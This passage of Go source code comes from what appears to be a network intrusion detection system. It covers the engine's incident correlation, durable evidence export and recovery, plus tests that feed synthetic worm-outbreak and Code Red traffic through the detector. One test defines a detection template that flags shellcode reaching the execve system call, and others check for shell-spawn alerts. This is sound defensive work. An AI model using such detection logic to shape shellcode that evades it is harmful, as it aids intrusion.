	}
	if cfg.PushURL != "" && len(cfg.PushURLs) > 0 {
		e.shutdownPartial()
		return nil, fmt.Errorf("nids: set PushURL or PushURLs, not both")
	}
	pushURLs := cfg.PushURLs
	if cfg.PushURL != "" {
		pushURLs = []string{cfg.PushURL}
	}
	pushComp, err := transport.ParseCompression(cfg.PushCompression)
	if err != nil {
		e.shutdownPartial()
		return nil, fmt.Errorf("nids: %w", err)
	}
	if len(pushURLs) > 0 && (!cfg.Correlate || cfg.IncidentExportDir == "") {
		e.shutdownPartial()
		return nil, fmt.Errorf("nids: PushURL requires Correlate and IncidentExportDir (the sink's segment directory is the push spool)")
	}
	e.inner = engine.New(ecfg)
	e.sensor = e.inner.SensorID()
	if !cfg.Correlate || cfg.IncidentExportDir == "" {
		e.health.Set("spool", true, "no export dir")
	}
	if cfg.Correlate && cfg.IncidentExportDir != "" {
		e.health.Set("spool", false, "recovering")
		if rec, err := fed.Recover(cfg.IncidentExportDir); err != nil {
			e.shutdownPartial()
			return nil, fmt.Errorf("nids: incident recovery: %w", err)
		} else if rec != nil {
			if err := e.importEvidence(rec); err != nil {
				// Most likely correlation-parameter skew: the durable
				// evidence was gathered under different window/caps.
				// Refuse to start rather than silently discard it — the
				// operator decides whether to restore the previous
				// parameters or retire the old evidence directory.
				e.shutdownPartial()
				return nil, fmt.Errorf("nids: incident recovery from %s: %w (restore the previous correlation parameters, or move the directory aside to start fresh)",
					cfg.IncidentExportDir, err)
			}
		}
		sink, err := fed.OpenSink(fed.SinkConfig{
			Dir:             cfg.IncidentExportDir,
			RotateBytes:     cfg.IncidentExportRotateBytes,
			RotateEvery:     cfg.IncidentExportRotateEvery,
			CheckpointEvery: cfg.IncidentCheckpointEvery,
			KeepSegments:    cfg.IncidentKeepSegments,
			Export:          e.exportEvidence,
			Telemetry:       tel,
		})
		if err != nil {
			e.shutdownPartial()
			return nil, fmt.Errorf("nids: incident sink: %w", err)
		}
		e.sink.Store(sink)
		e.health.Set("spool", true, "recovered")
		if len(pushURLs) > 0 {
			push, err := transport.NewPusher(transport.PusherConfig{
				Dir:            cfg.IncidentExportDir,
				URLs:           pushURLs,
				Client:         cfg.PushClient,
				RequestTimeout: cfg.PushTimeout,
				ScanInterval:   cfg.PushInterval,
				BackoffMin:     cfg.PushBackoffMin,
				BackoffMax:     cfg.PushBackoffMax,
				Seed:           cfg.PushSeed,
				Compression:    pushComp,
				Telemetry:      tel,
			})
			if err != nil {
				e.shutdownPartial()
				return nil, fmt.Errorf("nids: push transport: %w", err)
			}
			e.push = push
		}
	}
	e.pool = netpkt.NewPacketPool()
	return e, nil
}

// shutdownPartial tears down a half-built engine on a NewEngine error
// path so its shard and correlator goroutines do not leak.
func (e *Engine) shutdownPartial() {
	if e.inner != nil {
		e.inner.Stop()
	}
	if e.corr != nil {
		e.corr.Stop()
	}
	if s := e.sink.Load(); s != nil {
		s.Close()
	}
}

// ProcessFrame feeds one raw Ethernet frame with its capture
// timestamp (microseconds). Unparseable frames are reported as an
// error without stopping the engine.
func (e *Engine) ProcessFrame(frame []byte, tsUS uint64) error {
	p, err := netpkt.Parse(frame)
	if err != nil {
		return err
	}
	// Parse subslices the caller's buffer; the engine holds packets
	// asynchronously, so detach the payload.
	if len(p.Payload) > 0 {
		p.Payload = append([]byte(nil), p.Payload...)
	}
	p.TimestampUS = tsUS
	e.inner.Process(p)
	return nil
}

// Run streams a capture (classic pcap or pcapng) through the engine
// as fast as it reads, then drains. The engine remains live for the
// next capture or live traffic.
func (e *Engine) Run(r io.Reader) error {
	return e.feed(r, 0)
}

// Replay streams a capture through the engine paced by its capture
// timestamps: speed 1 replays in real time, 2 at double speed, and so
// on; speed <= 0 disables pacing (same as Run). Drains at EOF, so the
// engine's lifecycle ticks and alerts fire as they would on live
// traffic.
func (e *Engine) Replay(r io.Reader, speed float64) error {
	return e.feed(r, speed)
}

func (e *Engine) feed(r io.Reader, speed float64) error {
	tr, err := netpkt.NewTraceReader(r)
	if err != nil {
		return err
	}
	// Packets and payload buffers cycle through the engine's pool: the
	// shard that finishes with a packet releases it back for the
	// reader to reuse, so the capture loop allocates nothing per
	// packet in steady state — across traces, not just within one.
	tr.SetPool(e.pool)
	var (
		started bool
		firstTS uint64
		start   time.Time
	)
	for {
		p, err := tr.NextPacket(nil)
		if err == io.EOF {
			break
		}
		if err != nil {
			return err
		}
		if speed > 0 {
			if !started {
				started = true
				firstTS = p.TimestampUS
				start = time.Now()
			} else if p.TimestampUS > firstTS {
				due := start.Add(time.Duration(float64(p.TimestampUS-firstTS)/speed) * time.Microsecond)
				if d := time.Until(due); d > 0 {
					time.Sleep(d)
				}
			}
		}
		e.inner.Process(p)
	}
	e.Drain()
	return nil
}

// Drain completes all queued analysis and the unfinished tail of
// every tracked flow, then resets flow state; with a correlator
// attached, all events published by that work are applied too. The
// engine stays live.
func (e *Engine) Drain() {
	e.inner.Drain()
	if e.corr != nil {
		e.corr.Flush()
	}
	if s := e.sink.Load(); s != nil {
		// Nudge a checkpoint now that the trace's full evidence is
		// applied — the natural durability point between traces.
		s.Notify()
	}
	if e.push != nil {
		// And a spool scan right behind it, so the fresh checkpoint
		// heads for the aggregator without waiting out the interval.
		e.push.Notify()
	}
}

// Flush is Drain under the batch detector's name, so the engine is a
// drop-in replacement for NIDS — with the difference that the engine
// can still be fed afterwards.
func (e *Engine) Flush() { e.Drain() }

// Stop drains and terminates the engine, any attached correlator,
// and the durable sink (which writes a final evidence checkpoint).
// Idempotent and safe alongside concurrent Alerts/Stats/Incidents
// reads.
func (e *Engine) Stop() {
	e.health.Set("engine", false, "stopped")
	e.inner.Stop()
	if e.corr != nil {
		e.corr.Stop()
	}
	if s := e.sink.Load(); s != nil {
		s.Close()
	}
	if e.push != nil {
		// After the sink's final checkpoint, so the pusher's closing
		// sweep offers the complete evidence to the aggregator.
		e.push.Close()
	}
}

// Alerts returns the alerts recorded so far (complete for a trace
// after Drain or Stop).
func (e *Engine) Alerts() []Alert { return e.inner.Alerts() }

// Stats returns engine counters and gauges.
func (e *Engine) Stats() EngineMetrics { return e.inner.Snapshot() }

// Telemetry returns the metrics registry every layer of this engine
// records into (the one passed in EngineConfig.Telemetry, or the
// private default).
func (e *Engine) Telemetry() *TelemetryRegistry { return e.tel }

// Health returns the readiness tracker behind TelemetryHandler's
// /healthz: the "engine" check flips not-ready on Stop, "spool"
// records the durable-sink recovery outcome. Callers add their own
// checks or flip draining during shutdown.
func (e *Engine) Health() *TelemetryHealth { return e.health }

// TelemetryHandler returns the engine's observability surface —
// /metrics (Prometheus text), /statusz (JSON snapshot), /healthz,
// /debug/pprof — ready to mount on an http.Server (semnids -listen
// serves exactly this).
func (e *Engine) TelemetryHandler() http.Handler {
	telemetry.RegisterProcessMetrics(e.tel)
	return telemetry.NewMux(e.tel, e.health, e.statusInfo)
}

// StatusSnapshot captures every registered series plus identifying
// info as one JSON-ready value — the /statusz document, also usable
// programmatically.
func (e *Engine) StatusSnapshot() telemetry.StatusSnapshot {
	return e.tel.StatusSnapshot(e.statusInfo())
}

// WriteStatus writes the /statusz JSON document (one object, no
// trailing newline beyond the encoder's) — the encoder behind
// semnids -stats-interval.
func (e *Engine) WriteStatus(w io.Writer) error {
	return telemetry.WriteStatusJSON(w, e.tel, e.statusInfo())
}

func (e *Engine) statusInfo() map[string]any {
	return map[string]any{
		"sensor": e.sensor,
		"synced": e.PushSynced(),
	}
}

// Incidents returns the correlator's current incident set, ordered by
// stage, severity, then source — deterministic for a given trace
// whatever the shard count. Nil without Correlate.
func (e *Engine) Incidents() []Incident {
	if e.corr == nil {
		return nil
	}
	return e.corr.Incidents()
}

// SubscribeIncidents registers a live incident feed delivering a
// derived snapshot at every kill-chain stage transition. Slow
// subscribers shed (counted in IncidentStats().SubDropped) rather
// than stalling correlation; cancel unregisters and closes the
// channel. Returns nil without Correlate.
func (e *Engine) SubscribeIncidents(buf int) (<-chan Incident, func()) {
	if e.corr == nil {
		return nil, func() {}
	}
	return e.corr.Subscribe(buf)
}

// Ancestry reconstructs the current infection forest from this
// engine's lineage observations (local plus imported): one tree per
// (payload family, patient zero), parent→child edges scored by
// structural corroboration. Deterministic for a given trace whatever
// the shard count or federation order. Nil without Lineage. Each call
// records tracer telemetry (links derived, ancestry-depth histogram).
func (e *Engine) Ancestry() []AncestryTree {
	if e.lin == nil {
		return nil
	}
	trees := lineage.Trace(e.lin.Export())
	var links uint64
	for _, t := range trees {
		e.linDepth.Observe(int64(t.MaxDepth))
		links += uint64(t.Edges())
	}
	e.linLinks.Add(links)
	return trees
}

// IncidentStats returns correlator counters and gauges (zero value
// without Correlate).
func (e *Engine) IncidentStats() IncidentMetrics {
	if e.corr == nil {
		return IncidentMetrics{}
	}
	return e.corr.Metrics()
}

// exportEvidence snapshots the full durable state of this sensor: the
// correlator's evidence plus the classifier's per-source state
// (sub-threshold dark-space scan sets, suspicious marks), so a
// restart restores selection behavior along with attacker evidence.
func (e *Engine) exportEvidence() *EvidenceExport {
	ex := e.corr.Export(e.sensor)
	for _, st := range e.inner.Classifier().ExportState() {
		ex.Classifier = append(ex.Classifier, incident.ClassifierEvidence{
			Src:               st.Src,
			SuspiciousUntilUS: st.SuspiciousUntilUS,
			Dark:              st.Dark,
		})
	}
	if e.lin != nil {
		ex.Lineage = e.lin.Export()
	}
	return ex
}

// ExportIncidents writes the correlator's current evidence state —
// every tracked source's min-K timestamp sets, fingerprints and
// derived stage, stamped with this engine's sensor ID — plus the
// classifier's per-source scan state, in the versioned wire format
// cmd/fedmerge and ImportIncidents consume. Errors without Correlate.
func (e *Engine) ExportIncidents(w io.Writer) error {
	if e.corr == nil {
		return fmt.Errorf("nids: ExportIncidents requires Correlate")
	}
	return fed.WriteExport(w, e.exportEvidence())
}

// ImportIncidents folds another sensor's evidence export (or a prior
// run's) into the live correlator: evidence sets union under the
// configured caps and cross-sensor propagation links are re-derived.
// The export must carry the same correlation parameters this engine
// runs with. Errors without Correlate.
func (e *Engine) ImportIncidents(r io.Reader) error {
	if e.corr == nil {
		return fmt.Errorf("nids: ImportIncidents requires Correlate")
	}
	ex, err := fed.ReadExport(r)
	if err != nil {
		return err
	}
	return e.importEvidence(ex)
}

// importEvidence folds an export into the correlator and re-marks
// confirmed attackers in the classifier — the same state a live alert
// establishes (follow-on traffic from a confirmed attacker is always
// analyzed), so a restarted or seeded sensor keeps watching the
// sources its evidence has already convicted.
func (e *Engine) importEvidence(ex *EvidenceExport) error {
	if err := e.corr.Import(ex); err != nil {
		return err
	}
	if e.lin != nil && len(ex.Lineage) > 0 {
		e.lin.Import(ex.Lineage)
	}
	cl := e.inner.Classifier()
	for i := range ex.Sources {
		if rec := &ex.Sources[i]; rec.ExploitAtUS > 0 {
			cl.MarkSuspicious(rec.Src, rec.LastSeenUS)
		}
	}
	if len(ex.Classifier) > 0 {
		states := make([]classify.SourceState, 0, len(ex.Classifier))
		for i := range ex.Classifier {
			rec := &ex.Classifier[i]
			states = append(states, classify.SourceState{
				Src:               rec.Src,
				SuspiciousUntilUS: rec.SuspiciousUntilUS,
				Dark:              rec.Dark,
			})
		}
		cl.ImportState(states)
	}
	return nil
}

// SinkStats returns durable-sink counters (zero value when no
// IncidentExportDir is configured) plus push-transport health when a
// PushURL is configured.
func (e *Engine) SinkStats() SinkMetrics {
	var m SinkMetrics
	if s := e.sink.Load(); s != nil {
		m.SinkMetrics = s.Metrics()
	}
	if e.push != nil {
		m.Push = e.push.Metrics()
	}
	return m
}

// PushSynced reports whether every committed evidence byte on disk has
// been acknowledged by the aggregator (false with no PushURL, and
// until the pusher's first completed scan).
func (e *Engine) PushSynced() bool {
	return e.push != nil && e.push.Synced()
}

// CheckpointIncidents writes one evidence checkpoint synchronously:
// it returns after the snapshot is framed, flushed and fsynced. Drain
// only *requests* a checkpoint (the sink never blocks the hot path),
// so a caller that needs the durability point before acting on it —
// waiting out a push with PushSynced, copying the segment directory —
// calls this first. No-op without IncidentExportDir.
func (e *Engine) CheckpointIncidents() error {
	s := e.sink.Load()
	if s == nil {
		return nil
	}
	if err := s.Checkpoint(); err != nil {
		return err
	}
	if e.push != nil {
		e.push.Notify()
	}
	return nil
}
