package nids

import (
	"bytes"
	"net/netip"
	"testing"

	"semnids/internal/netpkt"
	"semnids/internal/report"
	"semnids/internal/traffic"
)

// correlatedEngine builds an engine with the incident correlator
// attached, using the standard test network layout.
func correlatedEngine(t *testing.T, shards int) *Engine {
	t.Helper()
	e, err := NewEngine(EngineConfig{
		Config: Config{
			Honeypots: []string{traffic.HoneypotAddr.String()},
			DarkSpace: []string{traffic.DarkNet.String()},
		},
		Shards:    shards,
		Correlate: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// renderIncidents renders the full correlator output — table and
// JSONL, including stage transitions — for byte comparison.
func renderIncidents(t *testing.T, e *Engine) string {
	t.Helper()
	var buf bytes.Buffer
	if err := report.WriteIncidents(&buf, e.Incidents()); err != nil {
		t.Fatal(err)
	}
	if err := report.WriteIncidentsJSON(&buf, e.Incidents()); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// TestIncidentDeterminismAcrossShards is the correlator's version of
// the engine's alert-determinism invariant: the rendered incident set
// (stage transitions included) is byte-identical across shard counts,
// even though shard events interleave differently on every run.
func TestIncidentDeterminismAcrossShards(t *testing.T) {
	traces := map[string][]*netpkt.Packet{
		"paper-table3": traffic.Synthesize(traffic.TraceSpec{
			Seed: 11, BenignSessions: 60, CodeRedInstances: 3,
		}),
		"worm-outbreak": traffic.WormOutbreak(traffic.WormSpec{
			Seed: 7, Generations: 2, FanoutPerHost: 2,
		}),
	}
	for name, pkts := range traces {
		var want string
		for _, shards := range []int{1, 2, 4} {
			e := correlatedEngine(t, shards)
			for _, p := range pkts {
				e.Process(clonePacket(p))
			}
			e.Stop()
			got := renderIncidents(t, e)
			if shards == 1 {
				want = got
				if got == "no correlated incidents\n" {
					t.Fatalf("%s: baseline run produced no incidents", name)
				}
				continue
			}
			if got != want {
				t.Errorf("%s: incident set diverged at shards=%d\n got:\n%s\nwant:\n%s",
					name, shards, got, want)
			}
		}
	}
}

// clonePacket deep-copies the mutable payload so repeated engine runs
// over one synthesized trace cannot alias each other's buffers.
func clonePacket(p *netpkt.Packet) *netpkt.Packet {
	q := *p
	if len(p.Payload) > 0 {
		q.Payload = append([]byte(nil), p.Payload...)
	}
	return &q
}

// Process feeds one pre-parsed packet (test hook; the public surface
// takes raw frames).
func (e *Engine) Process(p *netpkt.Packet) { e.inner.Process(p) }

// TestWormOutbreakReachesPropagation checks the full kill chain on a
// propagating outbreak: patient zero scans (RECON), exploits
// (EXPLOIT), and is escalated to PROPAGATION when its victims re-emit
// the same payload fingerprint — while the last generation of
// attackers, whose victims never re-emit, stays below PROPAGATION.
func TestWormOutbreakReachesPropagation(t *testing.T) {
	e := correlatedEngine(t, 4)
	for _, p := range traffic.WormOutbreak(traffic.WormSpec{Seed: 3, Generations: 2, FanoutPerHost: 2}) {
		e.Process(p)
	}
	e.Stop()

	incs := e.Incidents()
	var propagated []Incident
	for _, inc := range incs {
		if inc.Stage == StagePropagation {
			propagated = append(propagated, inc)
		}
	}
	if len(propagated) == 0 {
		t.Fatalf("no incident reached PROPAGATION: %v", incs)
	}
	for _, inc := range propagated {
		if len(inc.Victims) == 0 {
			t.Errorf("PROPAGATION incident without victims: %v", inc)
		}
		if inc.Severity != "critical" {
			t.Errorf("PROPAGATION incident severity = %q, want critical", inc.Severity)
		}
		// The full kill chain: the propagating host scanned before it
		// exploited.
		stages := map[IncidentStage]bool{}
		for _, tr := range inc.Transitions {
			stages[tr.Stage] = true
		}
		if !stages[StageRecon] || !stages[StageExploit] {
			t.Errorf("propagating incident missing kill-chain stages: %v", inc.Transitions)
		}
	}
	// Victims of the final generation never re-emit: at least one
	// EXPLOIT-stage incident (the last attackers) must remain below
	// PROPAGATION.
	if len(propagated) == len(incs) {
		t.Errorf("every incident propagated; expected the last generation to stop at EXPLOIT")
	}
}

// TestCorrelatorScanSoak pushes a million scan packets from far more
// sources than the correlator's LRU budget and checks per-source
// state stays strictly bounded — no monotonic growth — while the
// engine keeps up.
func TestCorrelatorScanSoak(t *testing.T) {
	if testing.Short() {
		t.Skip("soak test skipped in -short mode")
	}
	const (
		totalPackets = 1_000_000
		probesPerSrc = 5
		maxSources   = 8192
	)
	e, err := NewEngine(EngineConfig{
		Config: Config{
			Honeypots: []string{traffic.HoneypotAddr.String()},
			DarkSpace: []string{traffic.DarkNet.String()},
		},
		Shards:             4,
		Correlate:          true,
		MaxIncidentSources: maxSources,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer e.Stop()

	dark := traffic.DarkNet.Addr().As4()
	peak := 0
	for n := 0; n < totalPackets; n++ {
		srcID := n / probesPerSrc
		src := netip.AddrFrom4([4]byte{10, byte(srcID >> 16), byte(srcID >> 8), byte(srcID)})
		dst := netip.AddrFrom4([4]byte{dark[0], dark[1], dark[2], byte(10 + n%probesPerSrc)})
		e.Process(&netpkt.Packet{
			SrcIP: src, DstIP: dst,
			SrcPort: uint16(40000 + n%probesPerSrc), DstPort: 80,
			Proto: netpkt.ProtoTCP, HasTCP: true, Flags: netpkt.FlagSYN,
			Seq: uint32(n), TimestampUS: uint64(n) * 50,
		})
		if n%100_000 == 0 {
			if tracked := e.IncidentStats().SourcesTracked; tracked > peak {
				peak = tracked
			}
		}
	}
	e.Drain()
	m := e.IncidentStats()
	if m.SourcesTracked > peak {
		peak = m.SourcesTracked
	}
	if peak > maxSources {
		t.Fatalf("correlator tracked %d sources, budget %d", peak, maxSources)
	}
	if m.SourcesEvictedLRU == 0 && m.SourcesEvictedIdle == 0 {
		t.Fatalf("no source evictions over %d distinct sources: %+v", totalPackets/probesPerSrc, m)
	}
	if m.Events == 0 || m.FlowOpens == 0 {
		t.Fatalf("correlator saw no events: %+v", m)
	}
	t.Logf("scan soak: %d pkts, %d sources, peak tracked=%d (budget %d), evicted lru=%d idle=%d, incidents=%d",
		totalPackets, totalPackets/probesPerSrc, peak, maxSources,
		m.SourcesEvictedLRU, m.SourcesEvictedIdle, m.Incidents)
}
