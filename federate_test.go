package nids

import (
	"bytes"
	"fmt"
	"testing"

	"semnids/internal/engine"
	"semnids/internal/netpkt"
	"semnids/internal/report"
	"semnids/internal/traffic"
)

// federatedEngine builds a correlated engine with an optional sensor
// ID and durable export directory.
func federatedEngine(t *testing.T, shards int, sensor, exportDir string) *Engine {
	t.Helper()
	e, err := NewEngine(EngineConfig{
		Config: Config{
			Honeypots: []string{traffic.HoneypotAddr.String()},
			DarkSpace: []string{traffic.DarkNet.String()},
		},
		Shards:            shards,
		Correlate:         true,
		SensorID:          sensor,
		IncidentExportDir: exportDir,
	})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// exportOf round-trips an engine's evidence through the wire format,
// so every federation test also exercises the encoder and decoder.
func exportOf(t *testing.T, e *Engine) *EvidenceExport {
	t.Helper()
	var buf bytes.Buffer
	if err := e.ExportIncidents(&buf); err != nil {
		t.Fatal(err)
	}
	ex, err := ReadEvidence(&buf)
	if err != nil {
		t.Fatal(err)
	}
	return ex
}

// renderDerived renders an export's derived incident list exactly
// the way renderIncidents renders a live engine's, for byte
// comparison.
func renderDerived(t *testing.T, ex *EvidenceExport) string {
	t.Helper()
	incs, err := DeriveIncidents(ex)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := report.WriteIncidents(&buf, incs); err != nil {
		t.Fatal(err)
	}
	if err := report.WriteIncidentsJSON(&buf, incs); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// feed pushes cloned packets through the engine.
func feed(e *Engine, pkts []*netpkt.Packet) {
	for _, p := range pkts {
		e.Process(clonePacket(p))
	}
}

// TestFederationSplitsByteIdentical is the splits acceptance test:
// one worm-outbreak trace through a single sensor vs. partitioned by
// flow across two sensors whose evidence exports are then merged —
// the rendered incident reports must be byte-identical, at every
// shard count. It extends TestIncidentDeterminismAcrossShards from
// the shard layer to the federation layer: the same commutative-
// evidence property, one level up.
func TestFederationSplitsByteIdentical(t *testing.T) {
	pkts := traffic.WormOutbreak(traffic.WormSpec{Seed: 7, Generations: 2, FanoutPerHost: 2})
	for _, shards := range []int{1, 2, 4} {
		solo := federatedEngine(t, shards, "solo", "")
		feed(solo, pkts)
		solo.Stop()
		want := renderIncidents(t, solo)
		if want == "no correlated incidents\n" {
			t.Fatal("baseline run produced no incidents")
		}

		// Partition by source — the egress-tap model: each sensor
		// watches a disjoint set of hosts, so every host's scans and
		// deliveries stay at one vantage (classification sees what a
		// single sensor would) while every propagation link straddles
		// the cut — the attacker's delivery is one sensor's evidence,
		// its victim's re-emission the other's, and only the merge can
		// close them.
		sensors := [2]*Engine{
			federatedEngine(t, shards, "sensor-a", ""),
			federatedEngine(t, shards, "sensor-b", ""),
		}
		for _, p := range pkts {
			sensors[engine.FlowHash(netpkt.FlowKey{SrcIP: p.SrcIP}, 2)].Process(clonePacket(p))
		}
		var exports [2]*EvidenceExport
		for i, e := range sensors {
			e.Stop()
			exports[i] = exportOf(t, e)
		}

		merged, err := MergeEvidence(exports[0], exports[1])
		if err != nil {
			t.Fatal(err)
		}
		got := renderDerived(t, merged)
		if got != want {
			t.Errorf("shards=%d: split-then-merged incidents diverged from the single sensor:\n got:\n%s\nwant:\n%s",
				shards, got, want)
		}

		// Merge symmetry on the real trace, compared on rendered bytes.
		flipped, err := MergeEvidence(exports[1], exports[0])
		if err != nil {
			t.Fatal(err)
		}
		if renderDerived(t, flipped) != got {
			t.Errorf("shards=%d: Merge(B,A) rendered differently from Merge(A,B)", shards)
		}
		if got, want := fmt.Sprint(merged.Sensors), "[sensor-a sensor-b]"; got != want {
			t.Errorf("merged sensors = %s, want %s", got, want)
		}
	}
}

// splitAtFlowBoundary finds the smallest index >= target at which no
// flow straddles the cut, so a restart at the boundary loses no
// reassembly state and the two halves carry a clean partition of the
// trace's flows.
func splitAtFlowBoundary(t *testing.T, pkts []*netpkt.Packet, target int) int {
	t.Helper()
	last := make(map[netpkt.FlowKey]int)
	for i, p := range pkts {
		last[p.Flow()] = i
		last[p.Flow().Reverse()] = i
	}
	cut := target
	for moved := true; moved; {
		moved = false
		for i := 0; i < cut; i++ {
			if l := last[pkts[i].Flow()]; l >= cut {
				cut = l + 1
				moved = true
			}
		}
	}
	if cut <= 0 || cut >= len(pkts) {
		t.Fatalf("no flow boundary at or after %d (got %d of %d)", target, cut, len(pkts))
	}
	return cut
}

// stageBySource maps each incident source to its final kill-chain
// stage.
func stageBySource(incs []Incident) map[string]string {
	out := make(map[string]string, len(incs))
	for _, inc := range incs {
		out[inc.Src.String()] = inc.Stage.String()
	}
	return out
}

// TestFederationRestartRecovery is the restart acceptance test: a
// sensor with a durable sink is stopped mid-trace and a new engine is
// started on the same export directory. Recovery must reload the
// newest complete segment so the restarted sensor re-derives the same
// final stage per source as an uninterrupted run — in fact the full
// rendered report must match, since export/import is lossless and the
// evidence folds are commutative.
func TestFederationRestartRecovery(t *testing.T) {
	pkts := traffic.WormOutbreak(traffic.WormSpec{Seed: 11, Generations: 2, FanoutPerHost: 2})
	cut := splitAtFlowBoundary(t, pkts, len(pkts)/2)
	dir := t.TempDir()

	baseline := federatedEngine(t, 2, "sensor-a", "")
	feed(baseline, pkts)
	baseline.Stop()
	want := renderIncidents(t, baseline)
	wantStages := stageBySource(baseline.Incidents())
	if len(wantStages) == 0 {
		t.Fatal("baseline run produced no incidents")
	}

	// First life: half the trace, then Stop — which checkpoints the
	// evidence through the sink.
	first := federatedEngine(t, 2, "sensor-a", dir)
	feed(first, pkts[:cut])
	first.Stop()
	if m := first.SinkStats(); m.Checkpoints == 0 || m.Errors != 0 {
		t.Fatalf("first life sink metrics = %+v, want checkpoints and no errors", m)
	}
	midStages := stageBySource(first.Incidents())

	// Second life: recovery happens inside NewEngine, then the rest of
	// the trace streams through.
	second := federatedEngine(t, 2, "sensor-a", dir)
	if got := stageBySource(second.Incidents()); fmt.Sprint(got) != fmt.Sprint(midStages) {
		t.Fatalf("recovered stages = %v, want the first life's %v", got, midStages)
	}
	feed(second, pkts[cut:])
	second.Stop()

	if got := renderIncidents(t, second); got != want {
		t.Errorf("restarted sensor's report diverged from the uninterrupted run:\n got:\n%s\nwant:\n%s", got, want)
	}
	gotStages := stageBySource(second.Incidents())
	for src, stage := range wantStages {
		if gotStages[src] != stage {
			t.Errorf("source %s: restarted stage = %q, want %q", src, gotStages[src], stage)
		}
	}
}

// TestFederationImportSeedsLiveEngine exercises the
// -import-incidents path: a fresh engine seeded with another run's
// export, then fed the remainder of the trace, matches the
// uninterrupted baseline — stage for stage and byte for byte.
func TestFederationImportSeedsLiveEngine(t *testing.T) {
	pkts := traffic.WormOutbreak(traffic.WormSpec{Seed: 5, Generations: 2, FanoutPerHost: 2})
	cut := splitAtFlowBoundary(t, pkts, len(pkts)/2)

	baseline := federatedEngine(t, 2, "sensor-a", "")
	feed(baseline, pkts)
	baseline.Stop()
	want := renderIncidents(t, baseline)

	first := federatedEngine(t, 2, "sensor-a", "")
	feed(first, pkts[:cut])
	first.Stop()
	var buf bytes.Buffer
	if err := first.ExportIncidents(&buf); err != nil {
		t.Fatal(err)
	}

	second := federatedEngine(t, 2, "sensor-a", "")
	if err := second.ImportIncidents(&buf); err != nil {
		t.Fatal(err)
	}
	feed(second, pkts[cut:])
	second.Stop()
	if got := renderIncidents(t, second); got != want {
		t.Errorf("seeded engine's report diverged from the uninterrupted run:\n got:\n%s\nwant:\n%s", got, want)
	}
}
