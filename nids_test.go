package nids

import (
	"bytes"
	"net/netip"
	"testing"

	"semnids/internal/exploits"
	"semnids/internal/traffic"
)

func TestFacadeEndToEnd(t *testing.T) {
	n, err := New(Config{
		Honeypots: []string{traffic.HoneypotAddr.String()},
		DarkSpace: []string{traffic.DarkNet.String()},
		Workers:   2,
	})
	if err != nil {
		t.Fatal(err)
	}
	g := traffic.NewGen(1)
	exp := exploits.Table1Exploits()[0]
	for _, p := range g.ExploitAtHoneypot(netip.MustParseAddr("10.1.2.3"), exp.DstPort, exp.Payload) {
		if err := n.ProcessFrame(p.Serialize(), p.TimestampUS); err != nil {
			t.Fatal(err)
		}
	}
	n.Flush()
	found := false
	for _, a := range n.Alerts() {
		if a.Detection.Template == "linux-shell-spawn" {
			found = true
		}
	}
	if !found {
		t.Fatalf("no shell-spawn alert: %v", n.Alerts())
	}
	if n.Stats().Packets == 0 {
		t.Error("no packets counted")
	}
}

func TestFacadeConfigErrors(t *testing.T) {
	if _, err := New(Config{Honeypots: []string{"not-an-ip"}}); err == nil {
		t.Error("bad honeypot accepted")
	}
	if _, err := New(Config{DarkSpace: []string{"10.0.0.0/99"}}); err == nil {
		t.Error("bad prefix accepted")
	}
}

func TestFacadePcap(t *testing.T) {
	var buf bytes.Buffer
	spec := traffic.TraceSpec{Seed: 2, BenignSessions: 30, CodeRedInstances: 1}
	if _, err := traffic.WritePcap(&buf, spec); err != nil {
		t.Fatal(err)
	}
	n, err := New(Config{
		Honeypots: []string{traffic.HoneypotAddr.String()},
		DarkSpace: []string{traffic.DarkNet.String()},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := n.ProcessPcap(&buf); err != nil {
		t.Fatal(err)
	}
	got := 0
	for _, a := range n.Alerts() {
		if a.Detection.Template == "code-red-ii" {
			got++
		}
	}
	if got != 1 {
		t.Errorf("code-red-ii alerts = %d, want 1", got)
	}
}

func TestAnalyzeBytesFacade(t *testing.T) {
	ds := AnalyzeBytes(exploits.NetskyBinary(1, 22*1024))
	if len(ds) == 0 {
		t.Error("netsky binary produced no detections")
	}
}

func TestAnalyzePayloadFacade(t *testing.T) {
	ds := AnalyzePayload(exploits.CodeRedIIRequest())
	found := false
	for _, d := range ds {
		if d.Template == "code-red-ii" {
			found = true
		}
	}
	if !found {
		t.Errorf("code-red-ii not found: %v", ds)
	}
}

func TestXorTemplateOnlyConfig(t *testing.T) {
	n, err := New(Config{DisableClassification: true, XorTemplateOnly: true, Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	n.Flush()
}

func TestTemplatesDSLConfig(t *testing.T) {
	// A custom template set via the DSL: only shell spawns alert.
	dsl := "template custom-spawn severity=critical\n" +
		"  desc execve reached\n" +
		"  syscall 0xb\n"
	n, err := New(Config{
		Honeypots:    []string{traffic.HoneypotAddr.String()},
		TemplatesDSL: dsl,
		Workers:      1,
	})
	if err != nil {
		t.Fatal(err)
	}
	g := traffic.NewGen(9)
	exp := exploits.Table1Exploits()[0]
	for _, p := range g.ExploitAtHoneypot(netip.MustParseAddr("10.0.0.9"), exp.DstPort, exp.Payload) {
		if err := n.ProcessFrame(p.Serialize(), p.TimestampUS); err != nil {
			t.Fatal(err)
		}
	}
	n.Flush()
	found := false
	for _, a := range n.Alerts() {
		if a.Detection.Template == "custom-spawn" {
			found = true
		}
		if a.Detection.Template == "linux-shell-spawn" {
			t.Error("built-in template ran despite DSL replacement")
		}
	}
	if !found {
		t.Fatalf("custom template did not fire: %v", n.Alerts())
	}

	// Invalid DSL must be rejected at construction.
	if _, err := New(Config{TemplatesDSL: "template broken\n  bogus\n"}); err == nil {
		t.Error("invalid DSL accepted")
	}
}

func TestEngineFacadeRunAndReplay(t *testing.T) {
	var buf bytes.Buffer
	spec := traffic.TraceSpec{Seed: 21, BenignSessions: 20, CodeRedInstances: 2}
	if _, err := traffic.WritePcap(&buf, spec); err != nil {
		t.Fatal(err)
	}
	trace := buf.Bytes()

	e, err := NewEngine(EngineConfig{
		Config: Config{
			Honeypots: []string{traffic.HoneypotAddr.String()},
			DarkSpace: []string{traffic.DarkNet.String()},
		},
		Shards: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer e.Stop()

